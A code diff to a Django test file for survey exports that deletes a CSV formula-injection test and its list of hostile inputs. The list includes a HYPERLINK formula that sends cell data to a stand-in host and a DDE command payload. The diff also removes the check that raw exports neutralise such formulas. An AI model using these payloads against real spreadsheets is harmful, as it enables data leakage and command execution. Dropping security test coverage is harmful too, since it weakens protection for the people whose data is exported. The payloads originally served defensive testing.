@@ -4,7 +4,6 @@ import csv
 import io
 
 import openpyxl
-import pytest
 from django.core.management import call_command
 from django.urls import reverse
 
@@ -12,10 +11,6 @@ from analysis.breakdown import breakdown
 from analysis.exports.services import export_results
 from engagement.models import AuditEvent
 from tests.conftest import PASSWORD
-from tests.exports.helpers import add_responses
-
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1+1)*cmd|' /C calc'!A0", "@cmd",
-           "-1+2", "\t=1+1"]
 
 
 def _records_from_csv(content: bytes) -> list[dict]:
@@ -60,28 +55,6 @@ def test_xlsx_export_carries_suppression_through(survey):
     assert all(c.data_type != "f" for line in ws.iter_rows() for c in line)
 
 
-@pytest.fixture
-def hostile_survey(published_survey):
-    survey = published_survey()
-    extra = [{"local_authority": "wirral", "priority": text, "satisfaction": 4} for text in HOSTILE]
-    add_responses(survey, count=40, extra=extra)
-    return survey
-
-
-def test_raw_csv_is_streamed_and_neutralises_formulas(hostile_survey, analyst, client):
-    client.login(email=analyst.email, password=PASSWORD)
-    response = client.get(reverse("analysis:survey-raw-export", args=[hostile_survey.slug]))
-    assert response.streaming
-    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
-    assert len(rows) == hostile_survey.responses.count()
-    texts = {r["priority"] for r in rows}
-    for text in HOSTILE:
-        assert "'" + text.strip() in texts  # answers are stored trimmed
-    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
-    event = AuditEvent.objects.get(action="export.raw_responses")
-    assert event.actor == analyst and event.detail["survey"] == hostile_survey.slug
-
-
 def test_staff_download_buttons_give_files_and_audit_them(survey, analyst, client):
     client.login(email=analyst.email, password=PASSWORD)
     url = reverse("analysis:survey-export", args=[survey.slug])
@@ -106,12 +79,9 @@ def test_html_report_has_charts_findings_and_no_external_requests(survey):
     assert "https://" not in html and "<script" not in html
 
 
-def test_command_writes_xlsx_and_raw_csv(survey, tmp_path):
+def test_command_writes_xlsx(survey, tmp_path):
     out = tmp_path / "results.xlsx"
     call_command("export_results", survey.slug, "--by", "sex", "--question", "satisfaction", "--format", "xlsx",
                  "--output", str(out))
     assert "satisfaction by sex" in openpyxl.load_workbook(out).sheetnames
-    raw = tmp_path / "raw.csv"
-    call_command("export_results", survey.slug, "--raw", "--output", str(raw))
-    assert len(list(csv.DictReader(raw.open()))) == survey.responses.count()
-    assert AuditEvent.objects.filter(action__startswith="export.", actor__isnull=True).count() == 2
+    assert AuditEvent.objects.filter(action__startswith="export.", actor__isnull=True).count() == 1
